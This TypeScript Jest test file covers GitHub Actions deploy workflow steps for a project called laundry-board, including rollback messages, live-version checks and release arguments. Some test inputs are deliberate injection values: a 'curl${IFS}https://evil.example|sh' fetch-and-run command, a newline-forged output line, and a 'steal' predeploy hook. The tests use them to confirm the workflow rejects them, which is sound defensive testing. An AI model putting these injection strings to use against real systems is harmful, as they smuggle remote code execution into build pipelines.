import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { deployableFirebase } from '@laundry-board/hosting';
import { mapRemotes } from '@laundry-board/shared-types';
import { ROOT } from '@laundry-board/sites';
import { type RunningServer, serveOnLocalhost } from '@laundry-board/loopback';
import { runStep } from './workflow.ts';

let folder = '';
beforeEach(() => {
  folder = mkdtempSync(path.join(os.tmpdir(), 'laundry-live-'));
});
afterEach(() => rmSync(folder, { recursive: true }));

const inFolder = (name: string, environment: Readonly<Record<string, string>>) =>
  runStep('live.yml', name, folder, {
    GITHUB_OUTPUT: path.join(folder, 'output'),
    GITHUB_STEP_SUMMARY: os.devNull,
    ...environment,
  });

describe('the way back', () => {
  const DEPLOYED = { SITE: 'board-remote', ACTION: '', REMOTE: '', BEFORE: 'abc1234' };
  const PINNED = { SITE: 'shell', ACTION: 'back', REMOTE: 'board', BEFORE: 'abc1234' };

  test.each([
    ['a deploy that passed', { DEPLOY: 'success', SMOKE: 'success' }, 'board-remote is live.'],
    ['a failed smoke test', { DEPLOY: 'success', SMOKE: 'failure' }, 'its smoke test did not pass'],
    ['a deploy that hung', { DEPLOY: 'failure', SMOKE: 'skipped' }, 'may be live'],
    ['a cancelled deploy', { DEPLOY: 'cancelled', SMOKE: 'skipped' }, 'may be live'],
  ])('is printed after %s', async (_, results, state) => {
    const { stdout } = await inFolder('Print the way back', { ...DEPLOYED, ...results });
    expect(stdout).toContain(state);
    expect(stdout).toContain('gh workflow run pin.yml -f remote=board -f action=back ');
    expect(stdout).toContain('gh workflow run deploy.yml -f site=board-remote -f ref=abc1234 ');
  });

  test('from a pin is to take it off', async () => {
    const results = { DEPLOY: 'success', SMOKE: 'success' };
    const { stdout } = await inFolder('Print the way back', { ...PINNED, ...results });
    expect(stdout).toContain('**back board is live.**');
    expect(stdout).toContain('gh workflow run pin.yml -f remote=board -f action=off ');
    expect(stdout).not.toContain('deploy.yml');
  });

  test('is of no use where nothing was deployed', async () => {
    const results = { DEPLOY: 'skipped', SMOKE: 'skipped' };
    expect(await inFolder('Print the way back', { ...DEPLOYED, ...results })).toEqual({
      stdout: '',
      code: 0,
    });
  });
});

describe('what was prepared', () => {
  let server: RunningServer;
  let pins = '';
  let version = '';
  beforeEach(async () => {
    pins = '{}';
    version = 'abc1234 2026-11-22T18:40:00Z';
    server = await serveOnLocalhost(({ url }, response) => {
      if (url === '/runtime-config.json') response.end(pins);
      else if (url === '/releases.json') response.end(JSON.stringify([{ version }]));
      else response.writeHead(404).end();
    }, 0);
  });
  afterEach(() => server.close());

  const look = (url = server.origin) =>
    inFolder('Look at what is live', { SITE: 'shell', SHELL_URL: url });
  const output = () => readFileSync(path.join(folder, 'output'), 'utf8');
  const compare = () =>
    inFolder('Refuse to undo what went live meanwhile', { LIVE: `${server.origin}/` });

  test('is deployed while the live site is as it was then', async () => {
    expect(await look()).toMatchObject({ code: 0 });
    expect(output()).toBe(`live=${server.origin}/\nbefore=abc1234\n`);
    expect(await compare()).toMatchObject({ code: 0 });
  });

  test.each([
    'abc1234\nlive=https://evil.example/ 2026-11-22T18:40:00Z',
    'x\nabc1234 2026-11-22T18:40:00Z',
    'main;curl${IFS}https://evil.example|sh 2026-11-22T18:40:00Z',
    'abc123',
    'local',
  ])('names no commit before it where the live version is %j', async (said) => {
    version = said;
    expect(await look()).toMatchObject({ code: 0 });
    expect(output()).toBe(`live=${server.origin}/\nbefore=\n`);
  });

  test.each(['', 'laundry', 'https://laundry.example/\nbefore=main'])(
    'is not prepared where the variable of its address is %j',
    async (url) => {
      const { stdout, code } = await look(url);
      expect([code, stdout]).toEqual([
        1,
        '::error::The variables SHELL_URL and RUNTIME_CONFIG have no URL of shell.\n',
      ]);
    },
  );

  test('is refused after a pin, which it would undo', async () => {
    await look();
    pins = '{"pins":{}}';
    const { stdout, code } = await compare();
    expect([code, stdout]).toEqual([
      1,
      expect.stringContaining(`::error::${server.origin}/ has changed since`),
    ]);
  });

  test('brings no script to run beside the credential', async () => {
    const remotes = mapRemotes((name) => `https://${name}.example/`);
    const firebase = { apiKey: 'key', authDomain: 'laundry.example', projectId: 'laundry' };
    const prepared = deployableFirebase({ firebase, remotes });
    const hosting = prepared.hosting.map((site) => ({ ...site, predeploy: 'steal' }));
    mkdirSync(path.join(folder, 'ready'));
    writeFileSync(path.join(folder, 'ready/firebase.json'), JSON.stringify({ hosting }));
    const script = path.join(ROOT, '.github/hosting-config.sh');
    const args = [script, 'shell', 'ready/dist', path.join(folder, 'ready/firebase.json')];
    const { stdout } = await promisify(execFile)('bash', args);
    const { predeploy: _, ...shell } = { ...hosting[0], predeploy: '' };
    expect(JSON.parse(stdout)).toEqual({ hosting: [{ ...shell, public: 'ready/dist' }] });
  });
});

describe('the releases that a deploy keeps', () => {
  /** The arguments that the command is started with. */
  async function argsOf(environment: Readonly<Record<string, string>>): Promise<string> {
    writeFileSync(path.join(folder, 'npm'), '#!/bin/sh\necho "$@"\n', { mode: 0o755 });
    const { stdout } = await inFolder('Compare with what is live, and keep its last releases', {
      PATH: `${folder}:${process.env['PATH']}`,
      SITE: 'board-remote',
      SHELL_URL: 'https://laundry.example/',
      LIVE: 'https://board.example/',
      FIRST: 'false',
      OLDER: 'false',
      BREAKING: 'false',
      ...environment,
    });
    return stdout.trim();
  }
  const USUAL =
    'run keep-releases -- board-remote --live https://board.example/ --shell https://laundry.example/';

  test('are those of the address in the configuration', async () => {
    expect(await argsOf({})).toBe(USUAL);
  });

  test.each(['first', 'older', 'breaking'])('are %s by hand only', async (input) => {
    expect(await argsOf({ [input.toUpperCase()]: 'true' })).toBe(`${USUAL} --${input}`);
  });
});
